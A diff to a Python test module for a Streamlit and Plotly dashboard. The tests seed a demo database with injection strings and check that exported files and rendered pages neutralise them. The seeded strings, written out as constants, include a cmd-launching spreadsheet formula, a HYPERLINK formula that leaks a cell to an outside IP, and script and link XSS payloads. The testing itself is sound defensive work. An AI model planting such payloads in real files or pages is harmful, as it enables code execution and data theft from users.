@@ -4,20 +4,25 @@ from __future__ import annotations
 
 import csv
 import io
+import json
 import logging
 import re
 import zipfile
+from collections import Counter
 from collections.abc import Iterator
 from pathlib import Path
 from xml.etree import ElementTree
 
 import pytest
+from google.protobuf.json_format import MessageToDict
 from sqlalchemy import Engine, text
 
 from data_access import faults, logs
 from data_access.outlines import OutlineError, read_outlines
 from ingest.demo.world import MINIATURE
 from pages.common import navigation
+from pages.common.charts import chosen_points, line_chart, without_markup
+from reports.palette import LIGHT
 from tests.demo_county import a_small_county
 from tests.opened_pages import files_offered
 from tests.signed_in import a_board
@@ -28,6 +33,7 @@ __all__ = ["short_trends"]
 # --- formulas and markup in files ---------------------------------------------------------------------------------------
 
 FORMULAS = ("=cmd|' /C calc'!A0", "+1+cmd", "-1+1", "@SUM(1)", "\t=1+1", "＝1+1", '=HYPERLINK("http://10.9.9.9/?"&A1,"看")')
+LINK = '[看](http://10.9.9.9)<a href="http://10.9.9.9">看</a>'
 MARKUP = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "]]><a/>", "[看](http://10.9.9.9)")
 BEGINS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
 WRITTEN = {
@@ -54,6 +60,8 @@ def county(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Engine]:
                     for place, written in enumerate(words):
                         statement = f"UPDATE {table} SET {column} = :written WHERE {key} % {len(words)} = {place} AND {column} IS NOT NULL"
                         connection.execute(text(statement), {"written": f"{written}"})
+            first = "SELECT min(code) FROM area WHERE level = 'township' AND ranked"  # the one that pages choose by themselves
+            connection.execute(text(f"UPDATE area SET name = :written WHERE code = ({first})"), {"written": LINK})
         yield database
 
 
@@ -95,6 +103,48 @@ def test_no_file_holds_anything_that_a_program_would_run(county: Engine, monkeyp
                 wrong += [(entry.url_path, name, found) for found in formulas_in(name, content())]
     assert looked_at > 50
     assert wrong == []
+
+
+READ_AS_MARKDOWN = (
+    "markdown",
+    "alert",
+    "button",
+    "link_button",
+    "button_group",
+    "checkbox",
+    "radio",
+    "metric",
+    "toast",
+    "expandable",
+    "tab",
+)
+
+
+@pytest.mark.slow
+def test_no_page_makes_a_link_or_a_style_of_what_somebody_wrote(county: Engine) -> None:
+    """Streamlit reads Markdown in its texts and in the words of some choices, Plotly HTML in all of a chart's."""
+    board, wrong, looked_at = a_board(county, "shuji"), [], Counter[str]()
+    for entry in navigation.existing_entries():
+        drawn(board, entry, show="all", figure="duty.night_compliance", whose="one")
+        for kind in (*READ_AS_MARKDOWN, "plotly_chart"):
+            for each in board.get(kind):
+                looked_at[kind] += 1
+                spec = kind == "plotly_chart"
+                sent = str(json.loads(each.proto.spec)) if spec else json.dumps(MessageToDict(each.proto), ensure_ascii=False)
+                raw = ("<script", "<img", "<a") if spec else ("](http",)
+                wrong += [(entry.url_path, kind, mark) for mark in raw if mark in sent]
+    assert wrong == []
+    assert all(looked_at[kind] for kind in ("markdown", "button_group", "plotly_chart"))
+
+
+def test_a_chart_shows_names_and_keeps_what_it_says_of_itself() -> None:
+    chart = line_chart(LIGHT, ["10月<br>2026"], {"<a href='http://x'>镇</a>": [0.5]}, title="<b>题</b>", subtitle="")
+    (line,), layout = without_markup(chart)["data"], without_markup(chart)["layout"]
+    assert line["x"] == ["10月<br>2026"]
+    assert (line["name"], layout["title"]["text"]) == ("&lt;a href='http://x'>镇&lt;/a>", "&lt;b>题&lt;/b>")
+    assert line["hovertemplate"].startswith("&lt;a href")
+    assert line["hovertemplate"].endswith("<extra></extra>")
+    assert chosen_points({"selection": {"points": [{"customdata": "&lt;a>"}, {"customdata": 7}, {}]}}) == ["<a>", 7]
 
 
 # --- the log --------------------------------------------------------------------------------------------------------------
